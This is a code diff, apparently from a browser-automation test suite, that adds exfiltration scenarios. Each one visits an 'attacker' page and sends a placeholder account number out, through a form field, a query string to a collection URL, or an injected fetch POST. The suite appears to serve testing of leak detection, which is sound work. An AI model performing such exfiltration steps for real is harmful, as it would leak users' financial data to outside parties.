@@ -189,6 +189,30 @@ const relays = [
       await hands.wait(600);
     },
   },
+  ...[
+    [
+      'form',
+      async ({ hands, filled }) => {
+        await attempt(() => filled.fill({ label: 'Your case' }, 'RX-5530-9217 {account number}'));
+        await attempt(() => hands.click({ button: 'Go on' }));
+      },
+    ],
+    ['query', ({ filled }) => attempt(() => filled.goto(`${COLLECT}?case=RX-5530-9217&d={url account number}`))],
+    [
+      'script',
+      ({ filled }) =>
+        attempt(() => filled.run("fetch('/c?case=RX-5530-9217', { method: 'POST', body: '{account number}' })")),
+    ],
+  ].map(([name, send]) => ({
+    id: `beside-their-own-by-${name}`,
+    group: 6,
+    async does(scene) {
+      await scene.hands.goto(urlOf('attacker', '/case'));
+      await scene.hands.wait(1_500);
+      await send(scene);
+      await scene.hands.wait(600);
+    },
+  })),
   {
     id: 'mail-to-attacker',
     group: 6,
